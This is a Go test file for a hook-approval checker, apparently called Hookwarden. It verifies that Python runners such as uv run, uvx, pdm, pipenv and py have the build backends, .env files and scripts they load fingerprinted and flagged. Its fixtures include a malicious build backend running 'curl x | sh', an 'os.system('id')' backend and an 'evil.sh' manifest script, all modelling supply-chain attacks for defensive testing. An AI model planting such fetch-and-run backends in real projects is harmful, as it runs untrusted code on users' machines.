package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// masteryPreCompact is the head of a real hook script run by `uv run`:
// disler/claude-code-hooks-mastery, .claude/hooks/pre_compact.py (commit
// 0452bee9), run by its .claude/settings.json as
// `uv run $CLAUDE_PROJECT_DIR/.claude/hooks/pre_compact.py` — a script with
// inline metadata (PEP 723), which uv runs in an environment of its own.
const masteryPreCompact = "#!/usr/bin/env -S uv run --script\n# /// script\n# requires-python = \">=3.11\"\n# dependencies = [\n#     \"python-dotenv\",\n# ]\n# ///\n\nimport json\nimport sys\n\nprint(json.dumps(json.loads(sys.stdin.read())))\n"

const backendProject = "[project]\nname = \"x\"\nversion = \"0\"\n\n[build-system]\nrequires = []\nbuild-backend = \"build_backend\"\nbackend-path = [\".\"]\n"

// TestPythonProjectRunnersAreCodeLoaders is atk's probable HOLE 10: uv run
// syncs the project before the command, building it through the backend
// its pyproject.toml names (backend-path: a file of the project), and the
// other runners run the manifest's scripts by name. The files they read
// are fingerprinted (one a pull adds is new to the approval), a local
// backend is followed, and a build makes the discovery incomplete.
func TestPythonProjectRunnersAreCodeLoaders(t *testing.T) {
	type tc struct {
		name, command string
		files         map[string]string
		watched       []string // fingerprinted
		why           string   // a reason with this text; "" complete
	}
	hook := map[string]string{".claude/hooks/x.py": "import json\nprint(json.dumps({}))\n"}
	with := func(extra map[string]string) map[string]string {
		m := map[string]string{}
		for k, v := range hook {
			m[k] = v
		}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	cases := []tc{
		{name: "no project: complete", command: "uv run .claude/hooks/x.py", files: with(nil)},
		{name: "a virtual project: its files watched", command: "uv run .claude/hooks/x.py",
			files:   with(map[string]string{"pyproject.toml": "[project]\nname = \"x\"\ndependencies = []\n", "uv.lock": "version = 1\n", ".python-version": "3.12\n", "uv.toml": "\n"}),
			watched: []string{"pyproject.toml", "uv.lock", ".python-version", "uv.toml"}},
		{name: "a local build backend", command: "uv run .claude/hooks/x.py",
			files:   with(map[string]string{"pyproject.toml": backendProject, "build_backend.py": "import os\ndef build_wheel(*a):\n    os.system('id')\n"}),
			watched: []string{"pyproject.toml", "build_backend.py"}, why: "builds and installs it through its build backend (build_backend)"},
		{name: "setuptools", command: "uv run .claude/hooks/x.py",
			files:   with(map[string]string{"pyproject.toml": "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n", "setup.py": "from setuptools import setup\nsetup()\n"}),
			watched: []string{"pyproject.toml", "setup.py"}, why: "uv run syncs the project first"},
		{name: "tool.uv.sources", command: "uv run --frozen .claude/hooks/x.py",
			files: with(map[string]string{"pyproject.toml": "[project]\nname = \"x\"\n\n[tool.uv.sources]\nlib = { path = \"./lib\" }\n"}),
			why:   "tool.uv.sources"},
		{name: "--no-sync builds nothing", command: "uv run --no-sync .claude/hooks/x.py",
			files: with(map[string]string{"pyproject.toml": backendProject, "build_backend.py": "pass\n"}), watched: []string{"pyproject.toml"}},
		{name: "a script with inline metadata (claude-code-hooks-mastery)", command: "uv run $CLAUDE_PROJECT_DIR/.claude/hooks/pre_compact.py",
			files:   map[string]string{".claude/hooks/pre_compact.py": masteryPreCompact, "pyproject.toml": backendProject, "build_backend.py": "pass\n", ".python-version": "3.12\n"},
			watched: []string{".python-version"}},
		{name: "inline metadata naming a local source", command: "uv run .claude/hooks/s.py",
			files: map[string]string{".claude/hooks/s.py": "# /// script\n# dependencies = [\"lib\"]\n# [tool.uv.sources]\n# lib = { path = \"../../lib\" }\n# ///\nimport lib\n"},
			why:   "inline metadata"},
		{name: "uvx --from .", command: "uvx --from . mytool", files: with(map[string]string{"pyproject.toml": backendProject}), why: "a local package"},
		{name: "an interpreter by path", command: "uv run -p ./py/bin/python .claude/hooks/x.py", files: with(nil), why: "runs the interpreter ./py/bin/python"},
		{name: "pdm runs the manifest's scripts", command: "pdm run lint", files: with(map[string]string{"pyproject.toml": "[tool.pdm.scripts]\nlint = \"sh evil.sh\"\n"}),
			watched: []string{"pyproject.toml"}, why: "pdm run runs a script"},
		{name: "pipenv loads .env", command: "pipenv run python .claude/hooks/x.py", files: with(map[string]string{"Pipfile": "[packages]\n", ".env": "PYTHONPATH=evil\n"}),
			watched: []string{"Pipfile", ".env"}, why: "pipenv run loads the project's .env"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := soundProject(t, c.files)
			d := discoverIn(t, p, c.command, Runtime{Dialect: DialectPOSIX, ProjectVars: []string{"CLAUDE_PROJECT_DIR"}, TextVars: []string{}})
			if c.why == "" && !d.Complete() {
				t.Fatalf("want complete, got %v", d.Unresolved)
			}
			if c.why != "" {
				u, ok := reasonWith(d, c.why)
				if !ok {
					t.Fatalf("no reason with %q: %v", c.why, d.Unresolved)
				}
				if !u.Traceable {
					t.Errorf("not traceable: %+v", u)
				}
			}
			for _, w := range c.watched {
				if !hasScript(d, filepath.Join(p, w)) {
					t.Errorf("%s is not fingerprinted: %+v", w, d.Scripts)
				}
			}
		})
	}
}

// TestUvRunOptionsAreReadAsUvReadsThem: uv run's --script (-s,
// --gui-script) is a flag, not an option with a value — read as one, it
// took the script for its value and the hook ran a script discovery never
// saw; an option with a value that discovery did not list
// (--exclude-newer DATE) made the value the command and the script went
// unseen; an option it does not know at all may be either, so where the
// command starts is a reason; --env-file loads a file of the project
// whose variables change what runs; pipenv run loads the folder's .env
// even without a Pipfile.
func TestUvRunOptionsAreReadAsUvReadsThem(t *testing.T) {
	files := map[string]string{"hooks/guard": "import json\nprint(json.dumps({}))\n", "hooks/a.py": "print(1)\n", ".env": "PYTHONPATH=lib\n"}
	for _, c := range []struct {
		command string
		watched []string
		why     string // "" complete
	}{
		{"uv run --script hooks/guard", []string{"hooks/guard"}, ""},
		{"uv run -s hooks/guard", []string{"hooks/guard"}, ""},
		{"uv run --exclude-newer 2024-01-01 hooks/a.py", []string{"hooks/a.py"}, ""},
		{"uv run -q --index-url https://example.org/simple hooks/a.py", []string{"hooks/a.py"}, ""},
		{"uv run --some-later-option x hooks/a.py", nil, "uv run is given an option Hookwarden does not know"},
		{"uv run --env-file .env python hooks/a.py", []string{".env", "hooks/a.py"}, "--env-file"},
		{"pipenv run python hooks/a.py", []string{".env", "hooks/a.py"}, "pipenv run loads the project's .env"},
	} {
		t.Run(c.command, func(t *testing.T) {
			p := soundProject(t, files)
			d := discoverIn(t, p, c.command, Runtime{Dialect: DialectPOSIX, TextVars: []string{}})
			if c.why == "" && !d.Complete() {
				t.Fatalf("want complete, got %v", d.Unresolved)
			}
			if _, ok := reasonWith(d, c.why); c.why != "" && !ok {
				t.Fatalf("no reason with %q: %v", c.why, d.Unresolved)
			}
			for _, w := range c.watched {
				if !hasScript(d, filepath.Join(p, w)) {
					t.Errorf("%s is not fingerprinted: %+v", w, d.Scripts)
				}
			}
		})
	}
	// uvx runs a package of uv's cache or the index, not of node_modules.
	d := discoverIn(t, soundProject(t, nil), "uvx ruff check", Runtime{Dialect: DialectPOSIX, TextVars: []string{}})
	if u, ok := reasonWith(d, "uvx runs the package ruff"); !ok || strings.Contains(u.Why, "node_modules") {
		t.Errorf("uvx's reason: %+v", d.Unresolved)
	}
}

// TestPulledPyprojectIsNewToTheApproval: a project with no pyproject.toml
// approves `uv run x.py` as complete; a pull that adds one with a local
// build backend makes the same command list the new pyproject.toml and
// the backend (new files, so audit flags them) and incomplete.
func TestPulledPyprojectIsNewToTheApproval(t *testing.T) {
	p := soundProject(t, map[string]string{".claude/hooks/x.py": "print(1)\n"})
	before := discoverIn(t, p, "uv run .claude/hooks/x.py", Runtime{})
	if !before.Complete() || len(before.Scripts) != 1 {
		t.Fatalf("before: %+v", before)
	}
	for name, text := range map[string]string{"pyproject.toml": backendProject, "build_backend.py": "import os\nos.system('curl x | sh')\n"} {
		if err := os.WriteFile(filepath.Join(p, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	after := discoverIn(t, p, "uv run .claude/hooks/x.py", Runtime{})
	if after.Complete() || !hasScript(after, filepath.Join(p, "pyproject.toml")) || !hasScript(after, filepath.Join(p, "build_backend.py")) {
		t.Fatalf("after the pull: %+v", after)
	}
}

// TestPythonLauncherIsPython: `py x.py` (the Python launcher, Windows's
// and python-launcher's on Unix) runs Python: the script is followed as
// Python (its imports fingerprinted) instead of a program Hookwarden does
// not know. What the launcher chooses beyond the script is part of the
// approval: the folders where a .venv would give it its interpreter are
// watched by their listing, a .venv there now is a reason, and a script
// whose shebang names another program (which Windows's launcher runs) is
// a reason.
func TestPythonLauncherIsPython(t *testing.T) {
	files := map[string]string{"hooks/a.py": "import helper\n", "hooks/helper.py": "print(1)\n", "hooks/b.py": "#!/usr/bin/env node\nprint(1)\n"}
	for _, c := range []struct {
		command string
		extra   map[string]string
		why     string // "" complete
	}{
		{"py hooks/a.py", nil, ""},
		{"py -3.12 hooks/a.py", nil, ""},
		{"py -3 hooks/a.py", map[string]string{".venv/bin/python": "#!/bin/sh\n"}, "runs the interpreter of"},
		{"py hooks/b.py", nil, "with the program its first line names"},
	} {
		t.Run(c.command, func(t *testing.T) {
			all := map[string]string{}
			for k, v := range files {
				all[k] = v
			}
			for k, v := range c.extra {
				all[k] = v
			}
			p := soundProject(t, all)
			d := discoverIn(t, p, c.command, Runtime{Dialect: DialectPOSIX, TextVars: []string{}})
			if c.why == "" && !d.Complete() {
				t.Fatalf("want complete, got %v", d.Unresolved)
			}
			if _, ok := reasonWith(d, c.why); c.why != "" && !ok {
				t.Fatalf("no reason with %q: %v", c.why, d.Unresolved)
			}
			if c.why == "" {
				if !hasScript(d, filepath.Join(p, "hooks", "helper.py")) {
					t.Errorf("the script's import is not followed: %+v", d.Scripts)
				}
				if !hasScript(d, ListingPath(filepath.Join(p, ".venv"))) {
					t.Errorf("the .venv the launcher would use is not watched: %+v", d.Scripts)
				}
			}
		})
	}
}
